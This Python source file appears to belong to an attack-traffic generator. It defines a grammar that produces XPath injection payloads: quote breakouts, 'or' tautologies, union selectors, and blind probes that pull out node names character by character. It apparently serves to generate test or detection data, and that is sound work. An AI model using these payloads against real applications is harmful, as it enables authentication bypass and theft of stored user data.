"""XPath injection in short: a quote, an axis or a node test, and the rest of a predicate."""

from traffic.grammars.attacks.pieces import Grammar, Symbols

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "n0": (
        "user", "users", "*", "node()", "text()", "@*", "password", "username", "account", "‹id›",
        "‹id›", "child::node()", "parent::*", "comment()", "@id", "item", "name",
    ),
    "b": ("", "", "", "x", "admin", "‹name›", "‹n›", "‹abc›", "‹word›", "1", "foo"),
    "f": (
        "name()", "count(//*)", "count(/*)", "position()", "last()", "string-length(name(/*[1]))",
        "substring(name(/*[1]),‹d›,1)", "name(/*[‹d›])", "count(/child::*)", "string(//‹n0›)",
        "string-length(//‹n0›)", "local-name()", "namespace-uri()", "count(//‹n0›)", "name(..)",
    ),
    "c": ("='‹abc›'", "=‹n›", ">‹d›", "<‹n›", "!=''", ">0", "=1"),
    "j": ("or", "or", "and", "OR", "AND", "|"),
}
_GRAMMAR = Grammar(_SYMBOLS)

RULES = _GRAMMAR.rules(
    predicate_short=(
        "‹b›' ‹j› ‹f›‹c› ‹j› '‹abc#1›'='‹abc#1›", "‹b›' ‹j› ‹f›‹c›]", "‹b›'] | //‹n0›['‹abc?›",
        "‹n› ‹j› ‹f›‹c›",
        "‹b›']/‹n0›['1'='1", "‹b›' or //‹n0› or '", "‹b›'] | //* | //*['", "‹b›' ‹j› ‹f›‹c› ‹j› '",
        "‹n›] | //‹n0› | /a[1",
        "‹b›\"] | //‹n0›[\"", "‹b›' and not(‹f›‹c›) and '1'='1", "‹b›')] | //‹n0›[('",
        "‹b›' or starts-with(‹n0›,'‹abc›') or '",
        "‹b›' or contains(name(),'‹abc›') or '", "‹b›' or position()=‹d› or '", "‹b›']/../‹n0›['",
    ),
)
